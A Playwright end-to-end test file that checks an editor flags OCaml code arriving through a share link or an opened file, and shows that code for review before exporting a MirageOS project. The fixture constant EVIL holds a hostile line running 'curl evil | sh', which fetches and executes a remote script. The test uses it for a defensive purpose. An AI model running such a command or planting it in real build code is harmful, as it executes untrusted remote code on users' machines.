import AxeBuilder from '@axe-core/playwright';
import { expect, test } from '@playwright/test';
import { EditorPage } from './pages/EditorPage';

const fixture = (name: string) => new URL(`./fixtures/${name}`, import.meta.url).pathname;
const EVIL = 'let () = ignore (Sys.command "curl evil | sh")';

test.describe('OCaml code that comes with a link or a file (issue 9, item 12)', () => {
  test('a shared design carrying OCaml is marked, and its code is shown before anything exports it', async ({ page, browser }) => {
    const sender = new EditorPage(page);
    await sender.goto();
    await sender.openFile(fixture('raw-ocaml.json'));
    await expect(sender.node('evil')).toBeVisible();
    const link = await sender.copiedLink();

    const other = await browser.newContext();
    const them = new EditorPage(await other.newPage());
    await them.goto(`/${new URL(link).hash}`);
    await expect(them.node('evil')).toBeVisible();
    const banner = them.page.getByTestId('untrusted-code');
    await expect(banner).toContainText('a share link');
    await expect(banner).toContainText('runs when you build it');

    // Export first shows the code; cancelling exports nothing.
    let downloads = 0;
    them.page.on('download', () => downloads++);
    await them.page.getByTestId('file-export').click();
    const dialog = them.page.getByTestId('code-review');
    await expect(dialog).toBeVisible();
    await expect(dialog.getByTestId('code-review-item')).toHaveCount(1);
    await expect(dialog.getByTestId('code-review-item')).toContainText(EVIL);
    await expect(dialog).toContainText('runs at mirage configure');
    await them.page.screenshot({ path: test.info().outputPath('review.png') });
    const axe = await new AxeBuilder({ page: them.page }).include('[data-testid="code-review"]').analyze();
    expect(axe.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical').map((v) => v.id)).toEqual([]);
    await them.page.getByTestId('code-review-cancel').click();
    await expect(dialog).toBeHidden();
    await them.page.waitForTimeout(300);
    expect(downloads).toBe(0);
    await expect(banner).toBeVisible();

    // Read and confirm: the zip comes, with the code as it was sent.
    const download = await them.download(async () => {
      await them.page.getByTestId('file-export').click();
      await them.page.getByTestId('code-review-confirm').click();
    });
    expect(download.suggestedFilename()).toBe('curl-link.zip');
    await expect(banner).toBeHidden();
    // Read once: the next export goes straight through.
    const again = await them.exportedZip();
    expect(again.files['curl-link/config.ml']).toContain(EVIL);
    await other.close();
  });

  test('the mark survives a reload until the code is read', async ({ page }) => {
    const editor = new EditorPage(page);
    await editor.goto();
    await editor.openFile(fixture('raw-ocaml.json'));
    await expect(page.getByTestId('untrusted-code')).toContainText('raw-ocaml.json');
    await editor.saved();
    await page.reload();
    await editor.ready();
    await expect(page.getByTestId('untrusted-code')).toBeVisible();
    const axe = await new AxeBuilder({ page }).include('[data-testid="untrusted-code"]').analyze();
    expect(axe.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical').map((v) => v.id)).toEqual([]);
    await page.getByTestId('review-code').click();
    await expect(page.getByTestId('code-review-item')).toContainText(EVIL);
    await page.getByTestId('code-review-confirm').click();
    await expect(page.getByTestId('untrusted-code')).toBeHidden();
  });
});
